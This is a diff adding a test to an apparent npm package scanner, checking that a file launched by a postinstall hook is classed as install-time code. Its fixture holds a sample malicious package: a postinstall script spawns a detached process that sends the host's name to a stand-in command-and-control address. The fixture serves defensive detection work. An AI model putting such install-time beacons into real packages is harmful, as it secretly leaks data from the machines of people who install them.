@@ -435,3 +435,21 @@ def test_the_bytecode_finding_points_at_the_line_that_names_the_compiled_file():
     found = list(CodeAnalyzer().analyze(AnalysisContext(artifact=Artifact(PackageId("pkg", "1.0.0"), files, manifest, "t"))))
     [bytecode] = [f for f in found if f.rule == "code/bytecode"]
     assert bytecode.file == "index.js" and bytecode.line == 3 and bytecode.details["file"] == "parser.jsc"
+
+
+def test_a_file_install_code_starts_as_a_process_runs_at_install():
+    from npmward.analyzers.code.analysis import read_package
+    from npmward.analyzers.code.budget import Budget
+
+    hook = "const {spawn} = require('child_process'), path = require('path');\n" \
+           "spawn(process.execPath, [path.join(__dirname, 'stage.js')], {detached: true}).unref();\n"
+    stage = "require('https').get('https://c2.invalid/?h=' + require('os').hostname());\n"
+    files = {"install.js": hook.encode(), "stage.js": stage.encode(), "index.js": b"module.exports = 1;\n"}
+    manifest = {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node install.js"}}
+    program = read_package(manifest, files, Budget.unlimited())[2]
+    assert program.levels[("stage.js", None)] == "install"
+    # A file only named beside a copy (no process started) keeps its own level.
+    copy = "const fs = require('fs'), path = require('path');\n" \
+           "fs.copyFileSync(path.join(__dirname, 'stage.js'), 'out/stage.js');\n"
+    program = read_package(manifest, {**files, "install.js": copy.encode()}, Budget.unlimited())[2]
+    assert program.levels[("stage.js", None)] == "module"
